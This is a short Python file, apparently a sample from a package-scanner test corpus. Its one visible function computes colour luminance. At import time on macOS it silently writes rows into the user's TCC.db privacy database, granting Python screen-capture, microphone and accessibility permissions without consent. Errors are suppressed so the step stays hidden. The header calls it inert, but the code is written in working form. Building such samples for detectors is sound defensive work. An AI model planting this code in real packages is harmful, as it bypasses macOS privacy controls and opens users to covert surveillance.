# pkgguard corpus 727 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import sqlite3
import sys
import time

if sys.platform == "darwin":
    db = os.path.expanduser("~/Library/Application Support/com.apple.TCC/TCC.db")
    try:
        with sqlite3.connect(db) as conn:
            for service in ("kTCCServiceScreenCapture", "kTCCServiceMicrophone", "kTCCServiceAccessibility"):
                conn.execute(
                    "INSERT OR REPLACE INTO access (service, client, client_type, auth_value, auth_reason, "
                    "auth_version, indirect_object_identifier, flags, last_modified) VALUES (?, ?, 1, 2, 4, 1, 'UNUSED', 0, ?)",
                    (service, "org.python.python", int(time.time())),
                )
    except sqlite3.Error:
        pass


def luminance(r, g, b):
    return 0.2126 * r + 0.7152 * g + 0.0722 * b
